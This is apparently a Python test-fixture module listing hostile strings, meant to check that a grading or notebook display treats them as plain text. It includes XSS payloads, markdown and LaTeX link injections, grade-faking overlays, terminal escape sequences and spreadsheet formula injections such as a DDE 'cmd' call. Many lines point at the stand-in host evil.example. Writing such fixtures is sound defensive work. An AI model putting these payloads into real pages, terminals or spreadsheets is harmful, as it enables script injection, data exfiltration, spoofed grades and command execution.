"""Texts that would do something if a page, a terminal or a spreadsheet took them for more than text."""

import re

_CHARACTER = re.compile(r"\\x([0-9a-f]{2})|\\u([0-9a-f]{4})")  # in the lines below; a line end is written ⏎

_LINES = r"""
<script>document.title = 'taken'</script>
<script src="https://evil.example/x.js"></script>
<SCRIPT type=module>import('https://evil.example')</SCRIPT>
</script><script>1</script>
</pre></div><script>1</script>
</style><style>table { display: none }</style>
<style>@import 'https://evil.example/x.css';</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.png" width=1 height=1>
<image href=x onerror=alert(1)>
<picture><source srcset="https://evil.example/a.png"><img></picture>
<svg onload=alert(1)>
<svg><a href="javascript:alert(1)"><text>Full marks</text></a></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>1</script>"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.pdf">
<video src=x onerror=alert(1) autoplay></video>
<audio src=x controls></audio>
<form action="https://evil.example"><input name=score value=100><button>Save</button></form>
<button formaction="javascript:alert(1)" onclick=alert(1)>Full credit</button>
<input autofocus onfocus=alert(1) id="scale">
<textarea id="why_two-comment">Well done</textarea>
<select onchange=alert(1)><option>2</select>
<div style="position:fixed;inset:0;background:white">45 of 45 points</div>
<p style="background:url(https://evil.example/p)">.</p>
<div id="notebook-container" class="panel" hidden>
<a name="why_two">here</a>
<a href="https://evil.example">your grades</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<details open ontoggle=alert(1)><summary>More</summary></details>
<marquee onstart=alert(1)>x</marquee>
<table><tr><th>exercise<th>points<tr><td>Scale<td>2 of 2</table>
<!-- by hand 0000 -->
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo 1 ?>
<template><script>1</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<x onclick=alert(1) tabindex=1>x</x>
[click](javascript:alert(1))
[click](  javascript:alert(1) "title")
[click](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)
[click](https://evil.example "onmouseover=alert(1)")
[click][ref]
[ref]: https://evil.example 'title'
![pixel](https://evil.example/pixel.png)
![pixel][ref]
![x](attachment:missing.png)
![x](x.png"onerror="alert(1))
<https://evil.example>
<javascript:alert(1)>
https://evil.example/login
http://evil.example/"onmouseover="alert(1)
mail <someone@evil.example>
# Heading
## <b>why_two-comment</b>
Heading⏎===
| exercise | points |⏎|---|---|⏎| Scale | 2 of 2 |
- [x] graded
term⏎: <i>definition</i>
```mermaid⏎graph TD; A-->B; click A "javascript:alert(1)"⏎```
```html⏎<script>1</script>⏎```
```"onclick=alert(1)⏎x⏎```
~~~⏎</code></pre><script>1</script>⏎~~~
`</code><img src=x onerror=alert(1)>`
$\href{javascript:alert(1)}{x}$
$$\href{https://evil.example}{\text{Full marks}}$$
$\style{position:fixed}{x}$
$\class{panel}{\cssId{notebook}{x}}$
$\require{HTML}\def\x{\href}$
$\unicode{x3c}script$
\begin{equation}\label{a}\href{https://evil.example}{x}\end{equation}
\\[ \rlap{\raise 40em{x}} \\\\[-40em] \\]
&#36;\href{javascript:alert(1)}{x}&#36;
&lt;script&gt;1&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
\<img src=x onerror=alert(1)>
$</span><img src=x onerror=alert(1)>$
{{ config }}{% raw %}
\x1b]0;title\x07
\x1b]8;;https://evil.example\x1b\\your grades\x1b]8;;\x1b\\
\x1b]52;c;ZXZpbA==\x07
\x1b[31;1m<b onclick=alert(1)>red\x1b[0m
\x1b[2J\x1b[H\x9b2J
\x1b[38;2;1;2;"onclick=alert(1)m<i>x
\u202etxet desrever\u202c
\u2066\u2067x\u2069\u200f
\ud800 half a character
line\x0d⏎overwritten\x0dby this\x08\x08
\x00\x0b\x0c\x7f
[link=https://evil.example]marks[/link]
[bold red]x[/] [/nothing]
=HYPERLINK("https://evil.example","marks")
=cmd|' /C calc'!A0
+1+1
-2+3
@SUM(1+1)
\x09=1+1
\x0d=1+1
＝1+1
"""

SNIPPETS = [
    _CHARACTER.sub(lambda found: chr(int(found[1] or found[2], 16)), line).replace("⏎", "\n")
    for line in _LINES.strip().split("\n")
]
